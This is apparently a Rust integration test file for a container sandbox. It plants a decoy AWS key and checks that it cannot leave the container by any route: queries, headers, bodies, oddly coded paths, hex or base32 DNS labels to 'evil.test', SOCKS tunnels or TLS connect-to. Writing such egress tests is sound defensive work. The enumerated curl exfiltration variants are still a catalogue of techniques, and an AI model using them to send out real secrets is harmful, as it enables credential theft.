//! Honey values: they look like keys, and no program has a reason to send them (N48 of the threat list).

use data_encoding::{BASE32_NOPAD, HEXLOWER};

use super::allowlist::{Agent, INTERNET, arrived, internet, witness};
use super::node::NodeFiles;
use super::{Docker, runtime};
use crate::command::{Finished, run};

const VALUE: &str = "AKIAQ7W2N5X4H3ZT6B9C";
const ALLOW: &str = "dev.agentbox.network.allow=api.example.test, api.example.test:80, *.a.example.test:80, *.a.example.test, \
                     GET,POST https://index.example.test/**";

/// A node with a honey value and its action when it is sent, or a node without.
fn node(then: Option<&str>) -> NodeFiles {
    internet();
    let mut node = NodeFiles::default();
    let honey = then.map_or_else(String::new, |then| {
        format!(
            "[[honey]]\nname = \"bait\"\nvalue = \"{VALUE}\"\npolicies = [\"standard\"]\nenv = \"AWS_ACCESS_KEY_ID\"\n\
             then = \"{then}\"\n"
        )
    });
    let config = format!("[network]\nupstream-trust-roots = \"{INTERNET}/authority.crt\"\n{honey}");
    node.write("config.toml", 0o600, &config);
    node
}

fn start<'a>(docker: &'a Docker, more: &[&str]) -> Agent<'a> {
    Agent::start(
        docker,
        &[&[runtime(), "--annotation", ALLOW], more].concat(),
    )
}

/// Every visible way out: its name, and curl's arguments.
fn ways_out() -> Vec<(&'static str, bool, Vec<String>)> {
    let words = |all: &[&str]| all.iter().map(|word| (*word).to_owned()).collect();
    let query = format!("http://api.example.test/honey?k={VALUE}");
    let field = format!("X-Key: {VALUE}");
    let user = format!("user:{VALUE}");
    let body = format!("k={VALUE}");
    let read = format!("http://index.example.test/honey/{VALUE}");
    let coded = format!("http://index.example.test/honey/%41{}", &VALUE[1..]);
    let hex = HEXLOWER.encode(VALUE.as_bytes());
    let base32 = BASE32_NOPAD.encode(VALUE.as_bytes()).to_lowercase();
    let (one, two) = hex.split_at(20);
    let named = format!("http://{hex}.a.example.test/honey");
    let split = format!("http://{one}.{two}.evil.test/honey");
    let tunnel = format!("https://{}.a.example.test/honey", VALUE.to_lowercase());
    let socks = format!("https://{base32}.a.example.test/honey");
    let greeting = format!("https://{VALUE}.evil.test/honey");
    let lead = format!("{VALUE}.evil.test:443:api.example.test:443");
    let plain = "http://api.example.test/honey";
    let other = "http://index.example.test/honey";
    vec![
        ("a query on port 80", true, words(&[&query])),
        ("a query by the proxy", false, words(&[&query])),
        ("a field", true, words(&["-H", &field, plain])),
        ("a password", false, words(&["-u", &user, plain])),
        ("a body", true, words(&["-d", &body, plain])),
        ("a path that the reader reads", true, words(&[&read])),
        ("a path that is coded oddly", true, words(&[&coded])),
        (
            "a field that the reader reads",
            false,
            words(&["-H", &field, other]),
        ),
        (
            "a body that the reader reads",
            true,
            words(&["-d", &body, other]),
        ),
        ("a name", true, words(&[&named])),
        (
            "a name that is not listed, in two labels",
            true,
            words(&[&split]),
        ),
        ("a tunnel", false, words(&["-k", &tunnel])),
        (
            "a tunnel of SOCKS",
            false,
            words(&["-k", "--socks5-hostname", "127.0.0.1:3128", &socks]),
        ),
        (
            "a greeting of TLS",
            true,
            words(&["-k", "--connect-to", &lead, &greeting]),
        ),
    ]
}

fn send(agent: &Agent<'_>, direct: bool, arguments: &[String]) -> Finished {
    let arguments: Vec<&str> = arguments.iter().map(String::as_str).collect();
    agent.curl(direct, &arguments)
}

#[test]
#[ignore = "needs the rig of hack/test"]
fn n48_a_honey_value_leaves_by_no_way_that_is_seen() {
    let docker = Docker::alone();
    let _turn = witness();
    {
        let _node = node(None);
        let control = start(&docker, &[]);
        let before = arrived(&["/honey", VALUE]);
        // The witness logs addresses.
        let shown = |(how, ..): &&(&str, bool, Vec<String>)| {
            how.starts_with("a query") || *how == "a path that the reader reads"
        };
        for (how, direct, arguments) in ways_out().iter().filter(shown) {
            let got = send(&control, *direct, arguments);
            assert_eq!(got.code, 0, "{how}: {got}");
        }
        assert_eq!(arrived(&["/honey", VALUE]) - before, 3);
    }
    let _node = node(Some("log"));
    let agent = start(&docker, &[]);
    let found = agent
        .container
        .exec(&[], &["printenv", "AWS_ACCESS_KEY_ID"]);
    assert_eq!(found.stdout.trim(), VALUE);
    let before = arrived(&["/honey"]);
    for (number, (how, direct, arguments)) in ways_out().iter().enumerate() {
        let seen = alarms(&agent);
        let got = send(&agent, *direct, arguments);
        let is_told = got.stdout.contains("must not leave this container");
        assert!(got.code != 0 || is_told, "{how}: {got}");
        assert!(!got.stdout.contains("bait"), "{how}: {got}");
        assert!(
            alarms(&agent) > seen,
            "{number}, {how}: {}",
            agent.violations()
        );
    }
    assert_eq!(arrived(&["/honey"]), before);
    // Later requests work as before.
    for address in [
        "http://api.example.test/honey/x",
        "http://index.example.test/honey/x",
    ] {
        let got = agent.curl(true, &[address]);
        assert_eq!(got.code, 0, "{got}");
    }
    assert_eq!(arrived(&["/honey/x"]), 2);
    let id = agent.container.inspect("{{.Id}}");
    let told = run("agentbox", &["explain", &id]).ok();
    assert!(told.contains("honey value bait"), "{told}");
    let log = agent.violations();
    assert!(
        log.contains("the honey value bait was on its way out"),
        "{log}"
    );
}

/// The number of alarms that `agentbox network` counts.
fn alarms(agent: &Agent<'_>) -> u64 {
    let id = agent.container.inspect("{{.Id}}");
    let status = run("agentbox", &["network", "--format", "json", &id]).ok();
    let status: serde_json::Value = serde_json::from_str(&status).unwrap();
    status["denied"]["honey"].as_u64().unwrap_or(0)
}

#[test]
#[ignore = "needs the rig of hack/test"]
fn n48_a_honey_value_ends_its_container_where_the_node_says_so() {
    let docker = Docker::alone();
    let _turn = witness();
    let _node = node(Some("end"));
    let local = ["--annotation", "dev.agentbox.network.mode=local"];
    let ways = ways_out();
    let pick = |how: &str| ways.iter().find(|way| way.0 == how).unwrap();
    for (how, agent) in [
        ("a query on port 80", start(&docker, &[])),
        ("a body that the reader reads", start(&docker, &[])),
        ("a name", start(&docker, &[])),
        (
            "a name",
            Agent::start(&docker, &[&[runtime()], &local[..]].concat()),
        ),
    ] {
        let id = agent.container.inspect("{{.Id}}");
        // The control: a request without the value ends nothing.
        agent.curl(true, &["http://api.example.test/x"]);
        agent
            .container
            .await_inspect("{{.State.Status}}", "running");
        let (_, direct, arguments) = pick(how);
        send(&agent, *direct, arguments);
        agent
            .container
            .await_inspect("{{.State.Status}} {{.State.ExitCode}}", "exited 137");
        let log = run("agentbox", &["audit", "--json", &id]).ok();
        assert!(log.contains("(the container is ended)"), "{how}: {log}");
        assert!(
            log.contains("a honeytoken ended the container"),
            "{how}: {log}"
        );
    }
}
